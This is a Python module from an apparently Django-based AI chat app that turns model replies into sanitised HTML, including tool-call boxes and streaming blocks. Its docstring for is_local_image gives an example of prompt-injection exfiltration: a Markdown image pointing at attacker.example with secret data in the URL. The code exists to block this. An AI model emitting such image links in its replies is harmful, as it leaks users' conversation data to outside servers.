"""Markdown to safe HTML: markdown-it-py (raw HTML off), Pygments for fenced code, nh3 to sanitise."""

from __future__ import annotations

import functools
import html
import json
import re
from dataclasses import dataclass
from typing import Any

import nh3
from django.utils.html import format_html
from django.utils.safestring import mark_safe
from markdown_it import MarkdownIt
from markdown_it.token import Token
from pygments import highlight
from pygments.formatters import HtmlFormatter
from pygments.lexers import get_lexer_by_name
from pygments.util import ClassNotFound

from chat.blocks import BlockSplitter
from chat.tools import get_tool

_FORMATTER = HtmlFormatter(nowrap=True)


def _highlight(code: str, lang: str, _attrs: str) -> str:
    try:
        lexer = get_lexer_by_name(lang.strip()) if lang.strip() else None
    except ClassNotFound:
        lexer = None
    if lexer is None:
        return html.escape(code)
    return str(highlight(code, lexer, _FORMATTER))


@functools.cache
def _markdown() -> MarkdownIt:
    md = MarkdownIt(
        "commonmark", {"html": False, "linkify": False, "typographer": False, "highlight": _highlight}
    )
    md.enable("table").enable("strikethrough")
    return md


_ALLOWED_TAGS = {
    "p",
    "br",
    "hr",
    "em",
    "strong",
    "del",
    "s",
    "code",
    "pre",
    "span",
    "blockquote",
    "ul",
    "ol",
    "li",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "a",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "img",
}
_ALLOWED_ATTRIBUTES = {
    "a": {"href", "title"},
    "img": {"src", "alt", "title"},
    "span": {"class"},
    "code": {"class"},
    "ol": {"start"},
}
# Table alignment as classes, not style attributes: the Content-Security-Policy allows no inline styles.
_ALIGN_CLASSES = {"align-left", "align-center", "align-right"}
_ALLOWED_CLASSES = {"th": _ALIGN_CLASSES, "td": _ALIGN_CLASSES}
_ALIGN_STYLE = re.compile(r"^text-align:(left|center|right)$")
# An image may load only from this site (a path) or from the reply itself (a data: image).
_SELF_PATH = re.compile(r"^/(?![/\\])")
_DATA_IMAGE = re.compile(r"^data:image/(gif|png|jpeg|webp);", re.IGNORECASE)


def is_local_image(src: str) -> bool:
    """Whether an image URL loads without contacting any other host: a path on this site, or data:.
    Anything else would let a reply (say, one steered by a prompt injection) send chat text to another
    server just by being displayed: `![](https://attacker.example/?d=secret)`."""
    return bool(_SELF_PATH.match(src) or _DATA_IMAGE.match(src))


def _rewrite(tokens: list[Token]) -> list[Token]:
    """Table alignment to classes; remote images to plain links (the reader may follow one, deliberately)."""
    for token in tokens:
        if token.type in ("th_open", "td_open") and token.attrs.get("style"):
            match = _ALIGN_STYLE.match(str(token.attrs.pop("style")))
            if match:
                token.attrs["class"] = f"align-{match.group(1)}"
        if token.children:
            token.children = _images_to_links(token.children)
    return tokens


def _images_to_links(children: list[Token]) -> list[Token]:
    result: list[Token] = []
    for token in children:
        src = str(token.attrs.get("src", "")) if token.type == "image" else ""
        if token.type != "image" or is_local_image(src):
            result.append(token)
            continue
        link = Token("link_open", "a", 1, attrs={"href": src})
        if token.attrs.get("title"):
            link.attrs["title"] = token.attrs["title"]
        # The alt text (with its inline markup) names the link; with none, the address itself does.
        label = token.children if token.content and token.children else [Token("text", "", 0, content=src)]
        result += [link, *label, Token("link_close", "a", -1)]
    return result


def _attribute_filter(tag: str, attribute: str, value: str) -> str | None:
    # A second line behind _rewrite: no remote image source and no data: link survives sanitising.
    if tag == "img" and attribute == "src" and not is_local_image(value):
        return None
    if tag == "a" and attribute == "href" and value.lower().startswith("data:"):
        return None
    return value


def render_markdown(text: str) -> str:
    """Safe HTML for a reply. Links open in a new tab without handing over the opener. No image loads
    from another host, and no element carries a style attribute."""
    md = _markdown()
    env: dict[str, Any] = {}
    raw = md.renderer.render(_rewrite(md.parse(text, env)), md.options, env)
    return nh3.clean(
        raw,
        tags=_ALLOWED_TAGS,
        attributes=_ALLOWED_ATTRIBUTES,
        allowed_classes=_ALLOWED_CLASSES,
        attribute_filter=_attribute_filter,
        url_schemes={"http", "https", "mailto", "data"},
        link_rel="noopener noreferrer nofollow",
    )


def tool_call_html(
    *,
    tool_id: str,
    label: str,
    arguments: dict[str, Any] | None,
    result: str | None,
    is_error: bool,
) -> str:
    """A tool call as the page shows it, live and when saved. Each update is the whole box; the page
    replaces the box with the same id, so repeats (after a reconnect) are harmless."""
    if result is None:
        status = f"Using {label}…"
    else:
        status = f"{label[:1].upper()}{label[1:]} failed" if is_error else f"Used {label}"
    parts = [format_html('<div class="tool-status">{}</div>', status)]
    if arguments is not None:
        parts.append(
            format_html('<pre class="tool-input">{}</pre>', json.dumps(arguments, ensure_ascii=False))
        )
    if result is not None:
        parts.append(format_html('<pre class="tool-result">{}</pre>', result))
    return format_html(
        '<div class="tool-call{}" id="tool-{}" role="note">{}</div>',
        " is-error" if is_error else (" is-running" if result is None else ""),
        tool_id,
        mark_safe("".join(parts)),  # each part was built by format_html
    )


# --- Streaming Markdown: finished blocks as HTML, the open block as text -----------------------------


def block_html(text: str, *, end: int, markdown: bool = True) -> str:
    """A finished block of a streaming reply (text ending at offset `end`), rendered exactly as the final
    rendering renders it. Without Markdown (CHAT_STREAM_MARKDOWN off) it is the escaped text."""
    if markdown:
        rendered = mark_safe(render_markdown(text))  # sanitised by nh3
        return format_html('<div class="md-block" data-end="{}">{}</div>', end, rendered)
    return format_html('<div class="md-block md-plain" data-end="{}">{}</div>', end, text)


@dataclass(frozen=True)
class StreamingView:
    """A streaming reply as the page first shows it: finished blocks and tool boxes as HTML, then the open
    block as text starting at offset `tail_start`. The producer cuts at the same places (same scanner)."""

    done_html: str
    tail: str
    tail_start: int


def streaming_view(parts: list[dict[str, Any]], *, markdown: bool) -> StreamingView:
    """`parts` as Message.parts() gives them. A text part followed by a tool box is finished (its round
    ended); the last text part is cut by the block scanner."""
    html_parts: list[str] = []
    position = 0
    tail, tail_start = "", 0
    for index, part in enumerate(parts):
        if part["kind"] != "text":
            html_parts.append(tool_box_html(part))
            continue
        text, start = part["text"], position
        position += len(text)
        if index < len(parts) - 1:
            html_parts.append(block_html(text, end=position, markdown=markdown))
            continue
        cut = BlockSplitter(base=start).feed(text) if markdown else []
        done = cut[-1] if cut else start
        if done > start:
            html_parts.append(block_html(text[: done - start], end=done, markdown=markdown))
        tail, tail_start = text[done - start :], done
    if not tail:
        tail_start = position
    return StreamingView("".join(html_parts), tail, tail_start)


def tool_box_html(part: dict[str, Any]) -> str:
    tool = get_tool(part["name"])
    return tool_call_html(
        tool_id=part["id"],
        label=tool.label if tool else part["name"],
        arguments=part["input"],
        result=part["result"],
        is_error=part["is_error"],
    )
